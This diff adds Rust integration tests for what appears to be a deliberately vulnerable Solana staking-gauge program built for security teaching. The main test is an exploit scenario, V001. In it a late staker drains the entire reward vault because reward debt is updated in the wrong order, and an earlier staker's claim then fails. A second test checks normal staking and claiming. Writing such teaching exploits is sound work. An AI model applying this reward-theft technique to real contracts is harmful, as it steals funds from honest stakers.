@@ -0,0 +1,128 @@
+// Integration tests for GAUGE-VULNERABLE program
+//
+// WARNING: These tests demonstrate intentional security vulnerabilities for educational purposes.
+// These exploits show what can happen when proper security checks are missing.
+//
+// HOW TO RUN THESE TESTS:
+// From the project root directory:
+//   cd programs/amm/gauge-vulnerable
+//   cargo test-sbf
+//
+// Or to run a specific test:
+//   cargo test-sbf -- test_name
+//
+// Or with output logging:
+//   cargo test-sbf -- --nocapture
+
+mod utils;
+
+use litesvm::types::TransactionResult;
+use solana_sdk::signature::{Keypair, Signer};
+use soteria_test_kit::{run_exploit, ExploitInfo, ExploitScenario, Severity};
+use utils::*;
+
+// Alice's rewards after staking STAKE alone for 500 seconds
+const ALICE_EARNED: u64 = 500_000_000;
+
+// EXPLOIT: V001 - Reward debt updated in the wrong order
+// Demonstrates: A fresh stake is paid for emissions from before it existed
+struct LateStakeRewardTheft;
+
+struct LateStakeState {
+    scenario: GaugeScenario,
+    alice: Keypair,
+    attacker: Keypair,
+}
+
+impl ExploitScenario for LateStakeRewardTheft {
+    type State = LateStakeState;
+
+    fn info(&self) -> ExploitInfo {
+        ExploitInfo {
+            id: "V001",
+            title: "Reward Theft - Reward Debt Update Order",
+            severity: Severity::Critical,
+            lesson: "Settle pending rewards against the old stake, then add to it and reset reward_debt",
+        }
+    }
+
+    fn setup(&self) -> LateStakeState {
+        println!("This test demonstrates how growing a stake before settling its rewards");
+        println!("pays a brand new stake for every emission since the gauge started.");
+        println!();
+
+        let mut scenario = setup_gauge_scenario();
+        let alice = create_staker(&mut scenario);
+        let attacker = create_staker(&mut scenario);
+
+        stake(&mut scenario, &alice, STAKE);
+        advance_time(&mut scenario.svm, 500);
+        println!("[Setup] Alice staked {} LP and has earned {} rewards over 500 seconds", STAKE, ALICE_EARNED);
+        println!("[Setup] Reward vault holds {}", REWARD_AMOUNT);
+
+        LateStakeState { scenario, alice, attacker }
+    }
+
+    fn exploit(&self, state: &mut LateStakeState) -> TransactionResult {
+        let LateStakeState { scenario, attacker, .. } = state;
+
+        println!();
+        println!("[EXPLOIT] Attacker stakes {} LP into a fresh position", 2 * STAKE);
+        println!("[EXPLOIT] In secure version, the stake pays out nothing");
+
+        let ix = build_stake_lp_ix(&attacker.pubkey(), &scenario.lp_mint, &scenario.reward_mint, 2 * STAKE);
+        send_ix(&mut scenario.svm, ix, attacker)
+    }
+
+    fn assert_impact(&self, state: &mut LateStakeState) -> u64 {
+        let LateStakeState { scenario, alice, attacker } = state;
+
+        println!();
+        println!("[RESULT] Stake by attacker: SUCCESS");
+
+        // 2 * STAKE at 5 tokens per LP token of history
+        let stolen = reward_balance(scenario, &attacker.pubkey());
+        assert_eq!(stolen, REWARD_AMOUNT);
+        println!("[IMPACT] Attacker received {} rewards the moment they staked", stolen);
+
+        assert!(claim(scenario, alice).is_err(), "Alice's claim should fail");
+        assert_eq!(reward_balance(scenario, &alice.pubkey()), 0);
+        println!("[IMPACT] Alice's claim for her {} fails: the reward vault is empty", ALICE_EARNED);
+
+        // Alice's accrued rewards plus every emission still to come
+        stolen
+    }
+}
+
+#[test]
+fn test_exploit_late_stake_reward_theft() {
+    run_exploit(&LateStakeRewardTheft);
+}
+
+#[test]
+fn test_all_basic_operations_work() {
+    // Sanity check: the happy path still works in the vulnerable version
+    println!("\n[TEST START] test_all_basic_operations_work - Normal staking lifecycle");
+
+    let mut scenario = setup_gauge_scenario();
+    let alice = create_staker(&mut scenario);
+    let (lp_mint, reward_mint) = (scenario.lp_mint, scenario.reward_mint);
+
+    // A first stake before any emissions has no history to be overpaid from
+    stake(&mut scenario, &alice, STAKE);
+    println!("[Success] Alice staked {} LP", STAKE);
+
+    advance_time(&mut scenario.svm, 100);
+    claim(&mut scenario, &alice).expect("Claim should succeed");
+    assert_eq!(reward_balance(&scenario, &alice.pubkey()), 100_000_000);
+    println!("[Success] Alice claimed 100 seconds of rewards");
+
+    advance_time(&mut scenario.svm, 100);
+    let ix = build_unstake_lp_ix(&alice.pubkey(), &alice.pubkey(), &lp_mint, &reward_mint, STAKE);
+    send_ix(&mut scenario.svm, ix, &alice).expect("Unstake should succeed");
+    assert_eq!(lp_balance(&scenario, &alice.pubkey()), STAKER_LP_BALANCE);
+    assert_eq!(reward_balance(&scenario, &alice.pubkey()), 200_000_000);
+    println!("[Success] Alice unstaked with another 100 seconds of rewards");
+
+    println!("[TEST END] test_all_basic_operations_work");
+}